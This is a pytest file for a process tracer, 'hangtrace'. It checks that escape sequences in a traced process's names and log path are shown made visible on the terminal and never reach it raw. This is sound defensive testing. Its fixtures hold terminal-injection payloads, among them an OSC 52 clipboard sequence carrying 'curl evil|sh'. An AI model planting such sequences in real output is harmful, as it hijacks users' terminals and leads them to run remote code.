"""A traced process cannot write to root's terminal (issue 46 item 1): its argv, comm, thread
names and log paths hold terminal escape sequences (OSC 52 puts text on the clipboard, OSC 0
retitles the window, CSI 2J clears the screen, a UTF-8 C1 CSI, a bidi override), and hangtrace
runs under a pseudo-terminal (so the live view is up) for ``attach`` with each backend,
``watch -v`` and ``snapshot``. What reaches the terminal must hold the target's text made
visible (``\\x1b]52;...``), never its raw bytes; hangtrace's own colour codes are fine.
"""
from __future__ import annotations

import os
import signal
import subprocess
import sys
import textwrap
import threading
import time
from pathlib import Path
from typing import Callable, Iterator, List, Optional, Tuple

import pytest

from terminal import run_on_pty
from tracer.record.backends.ebpf.backend import EbpfBackend

REPO = Path(__file__).resolve().parent.parent.parent

ARGV0 = "\x1b]52;c;Y3VybCBldmlsfHNoCg==\x1b\\"          # OSC 52: `curl evil|sh` on the clipboard
COMM = "\x1b]0;PWN\x1b\\\x1b[2J"                        # OSC 0 (title) then CSI 2J (clear)
THREAD = "\x1b]2;T\x07\u009b\u202e"                     # OSC 2 ended by BEL, C1 CSI, RLO
LOG_NAME = "\x1b]52;c;bG9n\x07.log"                       # a log path the target writes to

# What the target controls, as it would reach the terminal raw (UTF-8), and the part of it that
# must still be shown (made visible) so that the check is not passed by showing nothing.
RAW = [b"\x1b]52;", b"\x1b]0;PWN", b"\x1b[2J", b"\x1b]2;T", b"\xc2\x9b", b"\xe2\x80\xae",
       b"\x07.log"]

TARGET = textwrap.dedent(r"""
    import os, subprocess, sys, threading, time
    argv0, comm, thread_name, log = sys.argv[1:5]
    write_for = float(sys.argv[5])
    with open("/proc/self/comm", "wb") as f:
        f.write(comm.encode())
    child = subprocess.Popen([argv0, "300"], executable="/bin/sleep")
    def named():
        with open(f"/proc/self/task/{threading.get_native_id()}/comm", "wb") as f:
            f.write(thread_name.encode())
        time.sleep(300)
    threading.Thread(target=named, daemon=True).start()
    print("READY", child.pid, flush=True)
    out = open(log, "a")
    end = time.monotonic() + write_for
    step = 0
    while time.monotonic() < end and not os.path.exists(log + ".stop"):
        step += 1
        out.write(f"step {step} done\n")
        out.flush()
        time.sleep(0.1)
    time.sleep(300)
""")


@pytest.fixture
def hostile(tmp_path: Path) -> Iterator[Callable[[float], Tuple[int, Path]]]:
    """Factory: ``pid, log = hostile(write_for)`` starts the target (module doc) writing to its
    log for ``write_for`` seconds (or until LOG.stop exists); killed with its child at the end."""
    started: List[subprocess.Popen] = []

    def start(write_for: float = 0.0) -> Tuple[int, Path]:
        log = tmp_path / LOG_NAME
        p = subprocess.Popen([sys.executable, "-c", TARGET, ARGV0, COMM, THREAD, str(log),
                              str(write_for)], stdout=subprocess.PIPE, text=True,
                             start_new_session=True)
        started.append(p)
        assert p.stdout is not None
        line = p.stdout.readline()
        assert line.startswith("READY"), line
        time.sleep(0.3)
        return p.pid, log

    yield start
    for p in started:
        try:
            os.killpg(p.pid, signal.SIGKILL)
        except ProcessLookupError:
            pass
        p.wait()


def run_in_pty(argv: List[str], *, timeout: float = 60.0,
               when: Optional[Tuple[bytes, Callable[[], None]]] = None) -> Tuple[int, bytes]:
    """Run ``argv`` with a 200x50 pty as its controlling terminal (tests/terminal.py); once
    ``when[0]`` appears in its output, call ``when[1]``. Returns (exit status, the raw bytes it
    wrote)."""
    pending = [when] if when is not None else []

    def watch_for(raw: bytes, _terminal: int) -> None:
        if pending and pending[0][0] in raw:
            pending.pop()[1]()
    run = run_on_pty(argv, cols=200, rows=50, timeout=timeout, cwd=str(REPO), controlling=True,
                     on_output=watch_for)
    return run.returncode, run.raw


def hangtrace(*args: str) -> List[str]:
    return [sys.executable, "-m", "tracer", *args]


def assert_nothing_raw(raw: bytes, *shown: bytes) -> None:
    """None of the target's sequences reached the terminal raw; each of ``shown`` (the visible
    rest of one) did, so that the target's strings were printed at all."""
    for seq in RAW:
        at = raw.find(seq)
        assert at < 0, f"raw {seq!r} reached the terminal: {raw[max(0, at - 200):at + 200]!r}"
    for text in shown:
        assert text in raw, f"{text!r} not shown: {raw[-3000:]!r}"


def _ebpf_why() -> Optional[str]:
    return EbpfBackend().check()


@pytest.mark.parametrize("backend", ["strace", "proc", "ebpf"])
def test_attach_live_view_shows_no_raw_target_escapes(hostile, tmp_path, backend) -> None:
    if backend == "ebpf" and _ebpf_why() is not None:
        pytest.skip(f"ebpf: {_ebpf_why()}")
    pid, _ = hostile()
    rc, raw = run_in_pty(hangtrace("attach", str(pid), "-b", backend, "-d", "2",
                                   "-o", str(tmp_path / "t.htrace.gz")))
    assert b"hangtrace live" in raw and b"hangtrace verdict" in raw, raw[-3000:]
    assert_nothing_raw(raw, b"]52;c;Y3VybCBldmlsfHNoCg==", b"]0;PWN", b"[2J", b"]2;T")
    assert rc not in (1, 2), raw[-3000:]


def test_watch_verbose_shows_no_raw_target_escapes(hostile, tmp_path) -> None:
    pid, log = hostile(write_for=60.0)
    out = tmp_path / "out"
    out.mkdir()

    def stop_writing() -> None:     # once watch has seen the log grow for a while
        threading.Timer(2.0, Path(str(log) + ".stop").touch).start()

    # progress (the log grows), then silence: "-v" says what the last progress was (the comm
    # and the log's path), then the capture's report is printed
    rc, raw = run_in_pty(hangtrace("watch", str(pid), "-v", "--silent-for", "1.5",
                                   "--interval", "0.3", "-d", "1", "--once", "-b", "proc",
                                   "-o", str(out)),
                         when=(b"a look every", stop_writing), timeout=90)
    assert b"silent since" in raw and b"hangtrace verdict" in raw, raw
    assert_nothing_raw(raw, b"]0;PWN", b"]52;c;bG9n")
    assert rc not in (1, 2), raw[-3000:]


def test_snapshot_shows_no_raw_target_escapes(hostile) -> None:
    pid, _ = hostile()
    rc, raw = run_in_pty(hangtrace("snapshot", str(pid)))
    assert rc == 0, raw[-3000:]
    assert_nothing_raw(raw, b"]52;c;Y3VybCBldmlsfHNoCg==", b"]0;PWN", b"]2;T")
